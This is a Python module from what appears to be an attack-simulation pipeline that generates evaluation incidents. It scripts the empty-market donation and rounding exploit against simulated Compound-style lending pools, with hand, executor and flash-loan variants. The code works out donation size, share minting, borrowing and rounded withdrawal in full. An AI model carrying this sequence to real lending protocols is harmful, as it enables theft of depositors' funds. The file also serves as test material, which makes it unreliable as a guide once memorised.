"""An empty lending market whose shares are made dear by a donation (Hundred Finance, Sonne)."""

from __future__ import annotations

from dataclasses import dataclass

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_flash,
    run_script,
    run_steps,
)
from pipelines.simulation.attacks.lending_pools import unencumbered
from pipelines.simulation.bytecode import SELF, Step
from pipelines.simulation.compile import contract
from pipelines.simulation.engine import Account
from pipelines.simulation.habits.lending_pools import (
    MOST_MARKETS,
    Market,
    Pool,
    cash,
    list_market,
    pools,
    price,
    priced,
)
from pipelines.simulation.habits.saving import as_tuples
from pipelines.simulation.world import DEADLINE, ETH, FOREVER, Part, Send, Session, Tag, Token, World, step

_SHARES = 2
"""How many of the smallest units of shares the attacker keeps."""


@dataclass(frozen=True)
class Aim:
    """What is to be robbed through which empty market, and how thoroughly."""

    pool: Pool
    market: Market
    loot: Market
    most: int
    """Wei."""
    share: float
    borrowed: bool


@dataclass(frozen=True)
class Plan:
    """What the donation needs and yields, on the present state."""

    pool: Pool
    market: Market
    token: Token
    loot: Market
    spent: int
    """WETH spent on the donation."""
    gift: int
    borrowed: int
    minted: int
    redeemed: int
    """Shares given back at once."""
    taken: int
    """Withdrawn at the end, for one unit of shares."""


def market_donation(world: World, incident: Incident) -> Session:
    """Own the only shares of an empty market, donate to it, borrow against them, withdraw by rounding."""
    found = yield from _empty_market(world)
    if found is None:
        return
    pool, market = found
    borrowed = world.chance(0.35)
    most = (500 if borrowed else int(world.amount(70.0, 0.5))) * ETH
    loot = _richest(world, pool, market)
    aim = Aim(pool, market, loot, most, 0.06 + 0.9 * world.rng.random(), borrowed)
    plan = work_out(world, aim)
    if plan is None:
        return
    who = yield from attacker(world, incident, plan.spent / ETH * (0.02 if borrowed else 1.15) + 0.5)
    if loot.token is not None:
        incident.assets.append(loot.token)
    incident.variant += ["flash-loan" if borrowed else "own-money"]
    if borrowed and world.chance(0.4):
        yield from _by_script(world, incident, who, aim)
    elif borrowed or world.chance(0.3):
        yield from _by_executor(world, incident, who, aim)
    else:
        yield from _by_hand(world, incident, who, aim)
    if not incident.exploits:
        return
    incident.finish()
    yield from leave(world, incident, who)


def _empty_market(world: World) -> Part:
    """Return a pool and a market of it without suppliers; an owner may just be listing one."""
    for pool in pools(world):
        for market in pool.markets[1:]:
            empty = world.view("ctoken", market.address, "totalSupply") == 0
            if empty and priced(world, pool, market) and _richest_ether(world, pool, market) > 5.0:
                return pool, market
    open_pools = [pool for pool in pools(world) if len(pool.markets) < MOST_MARKETS + 8]
    if not open_pools:
        return None
    pool = world.pick(open_pools)
    known = [market.asset for market in pool.markets]
    fitting = [t for t in world.tokens[1:14] if t.kind != "fee_token" and t.address not in known]
    deep = [token for token in fitting if world.reserves(world.weth, token)[0] > 100 * ETH]
    if not deep or _richest_ether(world, pool, pool.markets[0]) < 5.0:
        return None
    market = yield from list_market(world, pool, world.pick(deep), Tag(kind="market_listing"))
    return pool, market


def _worth(world: World, pool: Pool, market: Market) -> int:
    """Return in wei what a market could lend out now; 0 if it has no price."""
    return cash(world, market) * price(world, pool, market) // ETH if priced(world, pool, market) else 0


def _richest(world: World, pool: Pool, but: Market) -> Market:
    others = [market for market in pool.markets[:5] if market is not but]
    return max(others, key=lambda market: _worth(world, pool, market))


def _richest_ether(world: World, pool: Pool, but: Market) -> float:
    return _worth(world, pool, _richest(world, pool, but)) / ETH


def work_out(world: World, aim: Aim) -> Plan | None:
    """Return the plan for the present state; None if it cannot pay."""
    pool, market, loot, token = aim.pool, aim.market, aim.loot, aim.market.token
    if token is None or world.view("ctoken", market.address, "totalSupply") > 0:
        return None
    call = ("collateralFactor", market.address)
    factor = world.view("comptroller", pool.place.address, *call)
    rate, loot_rate = price(world, pool, market), price(world, pool, loot)
    weth, other = world.reserves(world.weth, token)
    room = min(
        int(cash(world, loot) * 97 // 100 * aim.share) * loot_rate // ETH, aim.most * factor // ETH * 4 // 10
    )
    gift = min(room * 2 * 105 // 100 * ETH // factor * ETH // rate, other * 35 // 100)
    worth = gift * rate // ETH * factor // ETH // 2 * 98 // 100
    start = 2 * 10 ** (8 + token.decimals)
    minted = 10 ** (token.decimals - 2)
    redeemed = minted * ETH // start - _SHARES
    if token.decimals > 10 and world.chance(0.5):
        minted, redeemed = _SHARES * start // ETH, 0
    left = cash(world, market) + minted - redeemed * start // ETH
    taken = _SHARES * ((left + gift) * ETH // _SHARES) // ETH - 1
    wanted = gift + minted
    spent = weth * wanted // (other - wanted) * 1000 // 997 * 1001 // 1000 + 1
    if worth - spent * 8 // 1000 < ETH // 2 or spent > aim.most:
        return None
    return Plan(pool, market, token, loot, spent, gift, worth * ETH // loot_rate, minted, redeemed, taken)


def _approvals(world: World, plan: Plan) -> list[Step]:
    router = world.the("router").address
    return [
        step("token", world.weth.address, "approve", router, FOREVER),
        step("token", plan.token.address, "approve", plan.market.address, FOREVER),
        step("token", plan.token.address, "approve", router, FOREVER),
    ]


def _steps(world: World, plan: Plan, me: bytes) -> list[Step]:
    """Return everything between having the WETH and having it back, with approvals given before."""
    token, market, pool = plan.token.address, plan.market.address, plan.pool.place.address
    router, weth = world.the("router").address, world.weth.address
    swap = "swapExactTokensForTokens"
    steps = [
        step("router", router, swap, plan.spent, 1, [weth, token], me, DEADLINE),
        step("ctoken", market, "mint", plan.minted),
        step("token", token, "transfer", market, plan.gift),
        step("comptroller", pool, "enterMarkets", [market]),
        step("ctoken", plan.loot.address, "borrow", plan.borrowed),
        step("ctoken", market, "redeemUnderlying", plan.taken),
        step("router", router, swap, plan.taken, 1, [token, weth], me, DEADLINE),
    ]
    if plan.redeemed:
        steps.insert(2, step("ctoken", market, "redeem", plan.redeemed))
    return steps


def _settle(world: World, plan: Plan, who: Account) -> tuple[list[Step], int]:
    """Return how a flash loan's cost is met and the loot handed over, and the ether needed for it."""
    cost = plan.spent * 9 // 1000
    wrap = step("weth", world.weth.address, "deposit", value=cost)
    if plan.loot.token is None:
        return [wrap], 0
    return [wrap, step("token", plan.loot.token.address, "transfer", who.address, plan.borrowed)], cost


def _by_executor(world: World, incident: Incident, who: Account, aim: Aim) -> Part:
    """One transaction of an executor after its approvals, with own money or a flash loan of WETH."""
    incident.variant.append("executor")
    tool = yield from unencumbered(world, incident, who, aim.pool)
    plan = work_out(world, aim)
    if plan is None:
        return
    data = contract("executor").data("run", as_tuples(_approvals(world, plan)))
    yield Send(who, tool.address, data, tag=incident.tag("prep"))
    plan = work_out(world, aim)
    if plan is None:
        return
    steps = _steps(world, plan, tool.address)
    settling, value = _settle(world, plan, who)
    if aim.borrowed:
        steps += settling
        yield from run_flash(world, incident, who, tool, steps, plan.spent, value=value)
    else:
        steps.insert(0, step("weth", world.weth.address, "deposit", value=plan.spent))
        yield from run_steps(world, incident, who, tool, [*steps, *settling[1:]])
    yield from home(world, incident, who, tool)


def _by_script(world: World, incident: Incident, who: Account, aim: Aim) -> Part:
    """A contract written for it, made anew if somebody else was faster."""
    incident.variant.append("script")
    weth, lender = world.weth.address, world.pick(world.places["flash_lender"]).address
    for _ in range(4):
        plan = work_out(world, aim)
        if plan is None:
            return
        settling, value = _settle(world, plan, who)
        inner = [*_approvals(world, plan), *_steps(world, plan, SELF), *settling]
        inner.append(step("token", weth, "approve", lender, plan.spent * 2))
        outer = [step("flash_lender", lender, "flashLoan", SELF, weth, plan.spent, b"")]
        done = yield from run_script(world, incident, who, outer, inner=inner, value=value)
        if done:
            return


def _by_hand(world: World, incident: Incident, who: Account, aim: Aim) -> Part:
    """One short transaction per step: buy, mint, donate, borrow, withdraw, sell."""
    incident.variant.append("by-hand")
    plan = work_out(world, aim)
    if plan is None:
        return
    token, address, router = plan.token, plan.market.address, world.the("router").address
    path = [world.weth.address, token.address]
    buy = ("swapExactETHForTokens", 1, path, who.address, DEADLINE)
    yield incident.call("prep", who, "router", router, *buy, value=plan.spent * 102 // 100)
    for spender in (address, router):
        yield incident.call("prep", who, "token", token.address, "approve", spender, FOREVER)
    if world.view("ctoken", address, "totalSupply") == 0:
        yield incident.call("prep", who, "ctoken", address, "mint", plan.minted)
        held = world.view("ctoken", address, "balanceOf", who.address)
        if held > _SHARES:
            yield incident.call("prep", who, "ctoken", address, "redeem", held - _SHARES)
    alone = world.view("ctoken", address, "totalSupply") == _SHARES
    if alone:
        yield from _inflate(world, incident, who, plan, aim.share)
    amount = world.held(token, who.address)
    sell = ("swapExactTokensForETH", amount, 1, path[::-1], who.address, DEADLINE)
    yield incident.call("exploit" if alone else "prep", who, "router", router, *sell)


def _inflate(world: World, incident: Incident, who: Account, plan: Plan, share: float) -> Part:
    """Donate, borrow what half of the shares then allow, withdraw nearly all for one unit of shares."""
    token, address, pool = plan.token.address, plan.market.address, plan.pool
    gift = min(plan.gift, world.held(plan.token, who.address))
    yield incident.call("exploit", who, "token", token, "transfer", address, gift)
    enter = ("enterMarkets", [address])
    yield incident.call("exploit", who, "comptroller", pool.place.address, *enter)
    _, spare, _ = world.view("comptroller", pool.place.address, "getAccountLiquidity", who.address)
    room = int(cash(world, plan.loot) * 97 // 100 * share)
    amount = min(spare * 49 // 100 * ETH // price(world, pool, plan.loot), room)
    yield incident.call("exploit", who, "ctoken", plan.loot.address, "borrow", amount)
    rate = world.view("ctoken", address, "exchangeRateStored")
    taken = min(_SHARES * rate // ETH, cash(world, plan.market)) - 1
    yield incident.call("exploit", who, "ctoken", address, "redeemUnderlying", taken)


FAMILIES = (
    Family(
        name="market_donation",
        tier="structural",
        split="eval",
        modelled_on="Hundred Finance (2023), Sonne Finance (2024)",
        about="Hold an empty market's only shares, donate to it, borrow against them, withdraw the "
        "donation for a rounded-down share.",
        run=market_donation,
    ),
)
